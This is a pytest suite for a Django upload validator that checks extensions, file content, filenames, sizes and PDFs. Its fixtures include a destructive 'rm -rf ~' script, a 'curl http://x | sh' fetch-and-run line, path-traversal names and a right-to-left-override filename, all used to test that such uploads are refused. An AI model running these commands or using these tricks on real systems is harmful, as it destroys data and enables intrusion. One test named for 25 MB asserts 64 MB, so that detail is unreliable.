"""The R2.5 file checks, against a corpus of good and bad files the tests generate themselves.
Pure unit tests: no database."""

import hashlib
import io
import os
import random
import struct
import zipfile
import zlib
from unittest import mock

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from pypdf import PdfWriter
from pypdf.errors import DependencyError

from registro.core import files
from registro.core.errors import ApplicationError, ErrorCode
from registro.core.files import (
    CHUNK_SIZE,
    EXECUTABLE_EXTENSIONS,
    FORBIDDEN_EXTENSIONS,
    CheckedFile,
    check_uploaded_file,
    sanitize_filename,
)
from tests.entities.conftest import pdf_bytes

GUIDE_LIST = (
    ".psd .gif .jar .bat .rtf .thmx .exe .odt .dot .7z .bmp .emf .eml .gsheet .gz .isz .jpe .oxps .p7z .ppsx "
    ".ppt .dll .txt .xlsb .pptx"
)

# --- The corpus ---------------------------------------------------------------------------------


def encrypted_pdf_bytes() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt("clave")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_bytes() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)  # 1x1, 8-bit greyscale
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b"")
    )


def zip_bytes(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def docx_bytes() -> bytes:
    return zip_bytes(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document/>",
        }
    )


def xlsx_bytes() -> bytes:
    return zip_bytes({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"})


OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

# A DOS/PE header as compilers write it: "MZ", binary fields, e_lfanew -> "PE\0\0".
PE_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\xb8" + b"\x00" * 7 + b"\x40" + b"\x00" * 35 + b"\x80\x00\x00\x00"
    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 7 + b"PE\x00\x00\x4c\x01"
    + b"\x00" * 200
)  # fmt: skip

EXECUTABLES = {
    "pe": PE_EXE,
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120,
    "macho64": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 120,
    "macho32-be": b"\xfe\xed\xfa\xce" + b"\x00" * 120,
    "java-class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 120,
    "shebang": b"#!/bin/sh\nrm -rf ~\n",
    "shebang-bom": b"\xef\xbb\xbf#!/usr/bin/env python3\nimport os\n",
}


def upload(name: str, content: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


class ReadSpy:
    """Wraps the upload's file object and records every read."""

    def __init__(self, wrapped):
        self._wrapped = wrapped
        self.requested: list[int] = []
        self.returned: list[int] = []

    def read(self, size=-1):
        data = self._wrapped.read(size)
        self.requested.append(size)
        self.returned.append(len(data))
        return data

    def __getattr__(self, name):
        return getattr(self._wrapped, name)


def refusal(uploaded, **kwargs) -> ApplicationError:
    with pytest.raises(ApplicationError) as caught:
        check_uploaded_file(uploaded, **kwargs)
    error = caught.value
    assert error.detail["file"]
    assert error.detail["file"] in error.message  # every message names the file
    return error


# --- Accepted files -----------------------------------------------------------------------------


def test_valid_pdf_is_described_from_its_content():
    content = pdf_bytes(pages=2)
    uploaded = upload("Acta de posesión.pdf", content, content_type="text/html")  # browser's claim ignored

    checked = check_uploaded_file(uploaded)

    assert checked == CheckedFile(
        name="Acta de posesión.pdf",
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        content_type="application/pdf",
        extension="pdf",
    )
    assert uploaded.tell() == 0  # ready to be stored
    assert uploaded.read() == content


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("firma.png", png_bytes(), "image/png"),
        ("cedula.JPG", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64, "image/jpeg"),
        ("cedula.jpeg", b"\xff\xd8\xff\xe1\x00\x10Exif\x00" + b"\x00" * 64, "image/jpeg"),
        ("escaneo.tif", b"II*\x00\x08\x00\x00\x00" + b"\x00" * 64, "image/tiff"),
        ("escaneo.tiff", b"MM\x00*\x00\x00\x00\x08" + b"\x00" * 64, "image/tiff"),
        ("certificado.docx", docx_bytes(), files.DOCX),
        ("presupuesto.xlsx", xlsx_bytes(), files.XLSX),
        ("acta.doc", OLE2, "application/msword"),
        ("nomina.xls", OLE2, "application/vnd.ms-excel"),
        ("anexos.zip", zip_bytes({"acta.pdf": pdf_bytes()}), "application/zip"),
        ("datos.csv", "nit;nombre\n800123456;E.S.E. Hospital San José\n".encode(), "application/octet-stream"),
        ("hoja.ods", zip_bytes({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), "application/zip"),
        # An extension with no known signature: reported as what the bytes are.
        ("acta.pdfa", pdf_bytes(), "application/pdf"),
    ],
)
def test_other_allowed_types_are_accepted_with_the_content_type_of_their_bytes(name, content, content_type):
    checked = check_uploaded_file(upload(name, content))
    assert checked.content_type == content_type
    assert checked.extension == name.rsplit(".", 1)[1].lower()
    assert checked.size == len(content)


def test_text_that_merely_starts_with_mz_is_not_an_executable():
    # "MZ" is how Colombian addresses abbreviate "manzana".
    content = b"MZ 5 CASA 3;Barrio Centro;Pasto\nMZ 7 CASA 1;Barrio Obrero;Pasto\n"
    assert check_uploaded_file(upload("direcciones.csv", content)).content_type == "application/octet-stream"


def test_pdf_with_junk_before_the_header_opens_as_in_real_readers():
    content = b"Received: by gateway\r\n" * 40 + pdf_bytes()  # 920 bytes of junk
    assert check_uploaded_file(upload("acta.pdf", content)).content_type == "application/pdf"


def test_file_exactly_at_the_limit_is_accepted():
    content = b"x" * 100
    assert check_uploaded_file(upload("datos.csv", content), max_bytes=100).size == 100


def test_words_between_dots_that_are_not_forbidden_are_fine():
    checked = check_uploaded_file(upload("Resolución No. 001 de 12.03.2020 empresa.com.pdf", pdf_bytes()))
    assert checked.name == "Resolución No. 001 de 12.03.2020 empresa.com.pdf"


# --- Names --------------------------------------------------------------------------------------


def test_path_traversal_name_keeps_only_the_file_name():
    checked = check_uploaded_file(upload("../../etc/acta.pdf", pdf_bytes()))
    assert checked.name == "acta.pdf"


def test_windows_path_is_stripped_too():
    # Django strips "/" paths itself but, on Linux, not "\" ones.
    uploaded = upload("..\\..\\Windows\\System32\\acta.pdf", pdf_bytes())
    assert check_uploaded_file(uploaded).name == "acta.pdf"


def test_non_ascii_name_stays_readable():
    checked = check_uploaded_file(upload("Resolución 001 – Posesión ñandú.pdf", pdf_bytes()))
    assert checked.name == "Resolución 001 - Posesión ñandú.pdf"


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("C:\\Users\\ana\\Escritorio\\acta.pdf", "acta.pdf"),
        ("/var/www/../acta.pdf", "acta.pdf"),
        ("acta\x00.pdf", "acta.pdf"),
        ("ac\x07ta\x1b[31m.pdf", "acta_31m.pdf"),
        ("acta\u202efdp.exe", "actafdp.exe"),  # right-to-left override dropped
        (".htaccess", "htaccess"),
        ("...acta.pdf", "acta.pdf"),
        ("acta.pdf. . ", "acta.pdf"),
        ("  acta \t\n  final .pdf", "acta final .pdf"),
        ("acta\u00a0final.pdf", "acta final.pdf"),
        ('a:b*c?"d"<e>|f.pdf', "a_b_c_d_e_f.pdf"),
        ("Resolucio\u0301n_n\u0303.pdf", "Resolución_ñ.pdf"),  # NFD in, NFC out
        ("Resolución_ñ (copia).pdf", "Resolución_ñ (copia).pdf"),
        ("合同.pdf", "合同.pdf"),
        ("", "documento"),
        ("..", "documento"),
        ("../../", "documento"),
        ("\x00\x01", "documento"),
    ],
)
def test_sanitize_filename(raw, clean):
    assert sanitize_filename(raw) == clean


def test_sanitize_filename_limits_length_keeping_the_extension():
    name = sanitize_filename("á" * 300 + ".pdf")
    assert len(name) == 150
    assert name == "á" * 146 + ".pdf"
    assert len(sanitize_filename("b" * 300)) == 150


def test_sanitized_name_is_what_storage_and_the_error_get():
    error = refusal(upload("../../Acta<1>.exe", b"MZ"))
    assert error.detail == {"file": "Acta_1_.exe"}


@pytest.mark.parametrize("name", ["???.pdf", "..\\..\\", "📄📄.pdf", "(-).pdf"])
def test_name_without_letters_or_digits_is_refused(name):
    error = refusal(upload(name, pdf_bytes()))
    assert error.code == ErrorCode.FILE_NAME_INVALID
    assert "no es válido" in error.message


# --- Forbidden extensions -----------------------------------------------------------------------


def test_forbidden_list_is_the_guides():
    assert {f".{ext}" for ext in FORBIDDEN_EXTENSIONS} == set(GUIDE_LIST.split())
    assert len(FORBIDDEN_EXTENSIONS) == 25


@pytest.mark.parametrize("extension", sorted(FORBIDDEN_EXTENSIONS))
def test_each_forbidden_extension_is_refused(extension):
    error = refusal(upload(f"acta.{extension}", b"contenido cualquiera"))
    assert error.code == ErrorCode.FILE_EXTENSION_FORBIDDEN
    assert f"«.{extension}»" in error.message
    assert "No se permiten" in error.message


@pytest.mark.parametrize("name", ["ACTA.EXE", "Acta.ExE", "acta.Pdf.Txt", "INFORME.PPTX", "foto.GiF", "x.7Z"])
def test_forbidden_extension_in_any_letter_case(name):
    error = refusal(upload(name, b"contenido"))
    assert error.code == ErrorCode.FILE_EXTENSION_FORBIDDEN
    assert error.detail["file"] == name


@pytest.mark.parametrize(
    ("name", "forbidden"),
    [
        ("acta.pdf.exe", "exe"),
        ("acta.pdf.EXE", "exe"),
        ("acta.exe.pdf", "exe"),  # refused too: servers and tools may honour any extension
        ("acta.txt.pdf", "txt"),
        ("acta.pdf.bat.docx", "bat"),
        ("acta.pdf      .exe", "exe"),  # spaces to push ".exe" out of sight
    ],
)
def test_forbidden_extension_among_several(name, forbidden):
    error = refusal(upload(name, pdf_bytes()))
    assert error.code == ErrorCode.FILE_EXTENSION_FORBIDDEN
    assert f"«.{forbidden}»" in error.message


def test_middle_forbidden_extension_message_asks_for_a_rename():
    error = refusal(upload("acta.exe.pdf", pdf_bytes()))
    assert "varias extensiones" in error.message
    assert "«acta.pdf»" in error.message


@pytest.mark.parametrize("extension", ["vbs", "msi", "scr", "ps1", "js", "com", "lnk", "hta"])
def test_script_and_installer_extensions_are_refused_as_programs(extension):
    assert extension in EXECUTABLE_EXTENSIONS
    error = refusal(upload(f"acta.{extension.upper()}", b"MsgBox 1"))
    assert error.code == ErrorCode.FILE_EXECUTABLE
    assert "programa" in error.message


@pytest.mark.parametrize("name", ["acta", "ACTA_FINAL", "Acta No. 5 de 2020", "acta.", "acta.p df"])
def test_name_without_extension_is_refused(name):
    error = refusal(upload(name, pdf_bytes()))
    assert error.code == ErrorCode.FILE_NO_EXTENSION
    assert "no tiene extensión" in error.message


# --- Empty and oversize -------------------------------------------------------------------------


def test_zero_byte_file_is_refused():
    error = refusal(upload("acta.pdf", b""))
    assert error.code == ErrorCode.FILE_EMPTY
    assert "vacío" in error.message


def test_file_over_the_limit_is_refused():
    error = refusal(upload("acta.pdf", pdf_bytes()), max_bytes=100)
    assert error.code == ErrorCode.FILE_TOO_LARGE
    assert "tamaño máximo" in error.message
    assert "100" in error.message
    assert error.detail["max_bytes"] == 100


def test_declared_size_over_the_limit_is_refused_before_reading():
    uploaded = upload("acta.pdf", pdf_bytes())
    uploaded.size = 10**12
    uploaded.file = spy = ReadSpy(uploaded.file)
    error = refusal(uploaded, max_bytes=1000)
    assert error.code == ErrorCode.FILE_TOO_LARGE
    assert spy.requested == []


def test_in_memory_upload_is_read_in_chunks_too():
    content = b"z" * (5 * CHUNK_SIZE + 7)
    uploaded = upload("datos.csv", content)
    uploaded.file = spy = ReadSpy(uploaded.file)
    checked = check_uploaded_file(uploaded)
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert all(0 < n <= CHUNK_SIZE for n in spy.requested)


def test_lying_declared_size_is_caught_while_streaming_and_reading_stops_early():
    content = b"x" * (10 * CHUNK_SIZE)
    uploaded = upload("datos.csv", content)
    uploaded.size = 10  # the client lied
    uploaded.file = spy = ReadSpy(uploaded.file)

    error = refusal(uploaded, max_bytes=2 * CHUNK_SIZE + 1)

    assert error.code == ErrorCode.FILE_TOO_LARGE
    assert len(spy.requested) == 3  # stopped at the first chunk past the limit, not at the end of the file
    assert uploaded.tell() == 0


def test_default_limit_comes_from_settings(settings):
    settings.DOCUMENT_MAX_BYTES = 50
    assert refusal(upload("datos.csv", b"y" * 51)).code == ErrorCode.FILE_TOO_LARGE
    assert check_uploaded_file(upload("datos.csv", b"y" * 50)).size == 50


@pytest.mark.skipif("DOCUMENT_MAX_BYTES" in os.environ, reason="limit overridden by the environment")
def test_default_limit_is_25_mb():
    from django.conf import settings

    assert settings.DOCUMENT_MAX_BYTES == 64 * 1024 * 1024


# --- Content that lies about its type -----------------------------------------------------------


@pytest.mark.parametrize("kind", sorted(EXECUTABLES))
@pytest.mark.parametrize("name", ["acta.pdf", "foto.png", "datos.csv", "informe.docx"])
def test_executable_content_is_refused_whatever_its_name(kind, name):
    error = refusal(upload(name, EXECUTABLES[kind]))
    assert error.code == ErrorCode.FILE_EXECUTABLE
    assert "programa ejecutable" in error.message


@pytest.mark.parametrize(
    ("name", "content", "label"),
    [
        ("acta.pdf", png_bytes(), "PDF"),
        ("acta.pdf", b"<html><body>acta</body></html>", "PDF"),
        ("acta.pdf", b"J" * 2000 + pdf_bytes(), "PDF"),  # header too far in
        ("firma.png", b"\xff\xd8\xff\xe0JFIF" + b"\x00" * 32, "PNG"),
        ("cedula.jpg", png_bytes(), "JPEG"),
        ("cedula.jpeg", b"GIF89a" + b"\x00" * 32, "JPEG"),
        ("escaneo.tiff", pdf_bytes(), "TIFF"),
        ("certificado.docx", b"Esto no es un documento de Word", "Word"),
        ("certificado.docx", zip_bytes({"word/document.xml": b"<w/>"}), "Word"),  # no [Content_Types].xml
        ("certificado.docx", xlsx_bytes(), "Word"),  # a workbook renamed
        ("certificado.docx", b"PK\x03\x04" + b"\x00" * 100, "Word"),  # ZIP magic, broken archive
        ("presupuesto.xlsx", docx_bytes(), "Excel"),
        ("acta.doc", pdf_bytes(), "Word 97-2003"),
        ("nomina.xls", docx_bytes(), "Excel 97-2003"),
        ("anexos.zip", pdf_bytes(), "ZIP"),
    ],
)
def test_content_not_matching_the_extension_is_refused(name, content, label):
    error = refusal(upload(name, content))
    assert error.code == ErrorCode.FILE_CONTENT_MISMATCH
    assert "no corresponde" in error.message
    assert label in error.message


def test_renamed_windows_program_named_pdf():
    error = refusal(upload("acta.pdf", PE_EXE))
    assert error.code == ErrorCode.FILE_EXECUTABLE
    assert "(PE)" in error.message


def test_shell_script_named_pdf():
    error = refusal(upload("acta.pdf", b"#!/bin/bash\ncurl http://x | sh\n"))
    assert error.code == ErrorCode.FILE_EXECUTABLE
    assert "script" in error.message


# --- PDFs that don't open -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n garbage",
        pdf_bytes()[:200],  # truncated download
        pdf_bytes(pages=0),  # opens, but there is nothing in it
        b"%PDF-1.4\n" + random.Random(7).randbytes(4096),
    ],
    ids=["garbage", "truncated", "no-pages", "random"],
)
def test_corrupt_pdf_is_refused(content):
    error = refusal(upload("acta.pdf", content))
    assert error.code == ErrorCode.FILE_PDF_CORRUPT
    assert "dañado" in error.message


def test_encrypted_pdf_is_refused():
    error = refusal(upload("acta.pdf", encrypted_pdf_bytes()))
    assert error.code == ErrorCode.FILE_PDF_ENCRYPTED
    assert error.message == ("El PDF «acta.pdf» está protegido con contraseña; adjunte una copia sin contraseña.")


def test_pdf_that_needs_a_crypto_library_to_open_counts_as_encrypted():
    # AES-256 PDFs: pypdf cannot even try the empty password without `cryptography`. The check runs
    # in this process here, so that the patched reader is the one used.
    in_process = mock.patch.object(files.isolation, "run", side_effect=lambda function, *args: function(*args))
    with in_process, mock.patch.object(files.inspection, "PdfReader", side_effect=DependencyError("AES")):
        error = refusal(upload("acta.pdf", pdf_bytes()))
    assert error.code == ErrorCode.FILE_PDF_ENCRYPTED


@pytest.mark.parametrize("content", [b"", b"%PDF-1.7\n garbage", encrypted_pdf_bytes(), PE_EXE])
def test_file_is_rewound_after_a_refusal(content):
    uploaded = upload("acta.pdf", content)
    with pytest.raises(ApplicationError):
        check_uploaded_file(uploaded)
    assert uploaded.tell() == 0


# --- Large files --------------------------------------------------------------------------------


def test_30_mb_file_on_disk_is_hashed_in_bounded_reads():
    row = b"800123456;E.S.E. HOSPITAL SAN JOSE DE PASTO;NARINO;2020-03-12;1234567.89\n"
    block = row * (1024 * 1024 // len(row) + 1)
    block = block[: 1024 * 1024]
    expected = hashlib.sha256()
    size = 30 * 1024 * 1024
    uploaded = TemporaryUploadedFile("datos.csv", "text/csv", size, "utf-8")
    try:
        for _ in range(30):
            uploaded.write(block)
            expected.update(block)
        uploaded.seek(0)
        spy = ReadSpy(uploaded.file)
        uploaded.file = spy

        checked = check_uploaded_file(uploaded, max_bytes=40 * 1024 * 1024)

        assert checked.size == size
        assert checked.sha256 == expected.hexdigest()
        assert checked.content_type == "application/octet-stream"
        # Never "read everything": each read asks for, and gets, at most one chunk.
        assert spy.requested
        assert all(0 < n <= CHUNK_SIZE for n in spy.requested)
        assert max(spy.returned) <= CHUNK_SIZE
        assert uploaded.tell() == 0
    finally:
        uploaded.close()


def test_large_pdf_on_disk_is_accepted():
    # A few MB of embedded data: pypdf seeks inside the file object on disk.
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("anexo.bin", random.Random(3).randbytes(4 * 1024 * 1024))
    out = io.BytesIO()
    writer.write(out)
    content = out.getvalue()
    uploaded = TemporaryUploadedFile("acta.pdf", "application/pdf", len(content), None)
    try:
        uploaded.write(content)
        uploaded.seek(0)
        checked = check_uploaded_file(uploaded)
        assert checked.size == len(content) > 4 * 1024 * 1024
        assert checked.sha256 == hashlib.sha256(content).hexdigest()
        assert checked.content_type == "application/pdf"
    finally:
        uploaded.close()
